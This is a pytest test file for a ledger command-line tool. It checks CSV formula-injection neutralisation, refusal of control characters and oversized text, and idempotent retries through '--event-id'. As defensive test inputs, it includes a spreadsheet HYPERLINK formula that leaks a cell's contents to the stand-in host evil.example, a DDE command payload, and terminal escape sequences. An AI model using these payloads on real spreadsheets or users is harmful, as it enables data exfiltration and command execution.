"""CLI hygiene on the demo ledger: CSV formula injection (defect 5), control characters in
public text from domain verbs (defect 6), size limits (defect 12), and `--event-id` as the
safe-retry path of every write verb (defect 10)."""

import csv
import json
import re
import uuid

import pytest

from conftest import entries, run

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def received_and_answered(demo, you_said, we_did="We changed the rota."):
    fid = "F-HOSTILE-" + uuid.uuid4().hex[:6].upper()
    admin = demo.key("admin")
    demo.run("feedback", "receive", "--key", admin, "--id", fid, "--channel", "survey", "--text", "private words",
             "--consent-to-publish", check=True)
    demo.run("feedback", "respond", "--key", admin, "--id", fid, f"--you-said={you_said}", f"--we-did={we_did}",
             "--change", "change_made", "--change-description=+1 interpreter; @rota -2 gaps", "--moderated-by",
             "R-HEAD-RJE", check=True)
    return fid


def test_csv_export_neutralises_formulas(demo, tmp_path):
    fid = received_and_answered(demo, HYPERLINK, we_did="-cmd|' /C calc'!A0")
    demo.run("checkpoint", check=True)
    out = tmp_path / "bundle"
    demo.run("export", "--out", out, "--csv", check=True)
    checked = 0
    for name in ("actions.csv", "feedback.csv", "yousaid.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    checked += 1
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?", cell), (name, cell)
    text = (out / "yousaid.csv").read_text(encoding="utf-8")
    if fid in text:  # the answer is published (consent was given)
        assert "'=HYPERLINK(" in text and "'-cmd|" in text
    assert checked > 100
    print(f"CSV cells checked for formula prefixes: {checked}")


@pytest.mark.parametrize("bad,code", [("\x1b[2J\x1b[31mYou said", "U+001B"), ("bell\x07", "U+0007"),
                                      ("del\x7f", "U+007F"), ("csi\u009b31m", "U+009B")])
def test_domain_verbs_refuse_control_characters_naming_the_option(demo, bad, code):
    fid = "F-CTRL-" + uuid.uuid4().hex[:6].upper()
    admin = demo.key("admin")
    # With consent to publish, the answer is public: its texts are payload members.
    demo.run("feedback", "receive", "--key", admin, "--id", fid, "--channel", "survey", "--consent-to-publish", check=True)
    before = entries(demo.db)
    r = demo.run("feedback", "respond", "--key", admin, "--id", fid, "--you-said", bad, "--we-did", "ok",
                 "--change", "change_made", "--change-description", "x", "--moderated-by", "R-HEAD-RJE")
    assert r.returncode == 1
    assert r.stderr == f"coledger: error: /payload/publicSummary: contains a control character ({code}) that cannot be stored (--you-said); nothing was appended\n"
    assert "\x1b" not in r.stderr
    assert entries(demo.db) == before
    # Private text too (the portal refuses the same characters in the same fields).
    r = demo.run("feedback", "receive", "--key", admin, "--id", fid + "X", "--channel", "survey", "--text", bad)
    assert r.returncode == 1 and f"/private/data/text: contains a control character ({code})" in r.stderr
    assert entries(demo.db) == before


def test_domain_verbs_refuse_oversized_text(demo):
    admin = demo.key("admin")
    before = entries(demo.db)
    r = demo.run("feedback", "receive", "--key", admin, "--id", "F-BIG-1", "--channel", "survey", "--text", "x" * 40_000)
    assert r.returncode == 1
    assert "/private/data/text: text is 40000 bytes, more than the limit of 32768 bytes; nothing was appended" in r.stderr
    assert entries(demo.db) == before


def test_event_id_makes_a_retry_safe(demo):
    admin = demo.key("admin")
    eid = str(uuid.uuid4())
    args = ("feedback", "receive", "--key", admin, "--id", "F-RETRY-1", "--channel", "survey", "--on",
            "2026-03-01T10:00:00Z", "--event-id", eid, "--json")
    before = entries(demo.db)
    first = json.loads(demo.run(*args, check=True).stdout)
    second = json.loads(demo.run(*args, check=True).stdout)
    assert first["id"] == second["id"] == eid
    assert first["index"] == second["index"] and second.get("duplicate") is True
    assert entries(demo.db) == before + 1
    # The same id with different content is a conflict, not a second entry.
    r = demo.run(*args[:-3], "--event-id", eid, "--language", "cy")
    assert r.returncode == 1 and entries(demo.db) == before + 1


def leaves(path=()):
    """Every leaf subcommand path, walked from `--help`."""
    out = run(*path, "--help").stdout
    section = out.split("SUBCOMMANDS:", 1)
    if len(section) == 1:
        return [path]
    found = []
    for line in section[1].split("\n\n", 1)[0].splitlines():  # the list ends at the first blank line
        m = re.match(r"^  ([a-z][a-z0-9-]*)\b", line)
        if m and m.group(1) != "help" and len(path) < 4:
            found += leaves(path + (m.group(1),))
    return found


def test_every_write_verb_offers_a_safe_retry():
    domain, others = 0, []
    for path in leaves():
        help_text = " ".join(run(*path, "--help").stdout.split())  # help wraps lines at any word
        # A domain verb signs one event (`key register`/`revoke` refuse a repeat instead).
        if "--on <date-or-time>" in help_text and "--key <key>" in help_text and path[0] != "key":
            assert "--event-id <uuid>" in help_text and "safe way to retry" in help_text, path
            domain += 1
        elif "--key <key>" in help_text:
            others.append(" ".join(path))
    assert domain >= 17, domain
    for verb in ("append", "import"):
        assert "safe" in run(verb, "--help").stdout
    print(f"write verbs with --event-id: {domain}; other signing verbs: {', '.join(others)}")
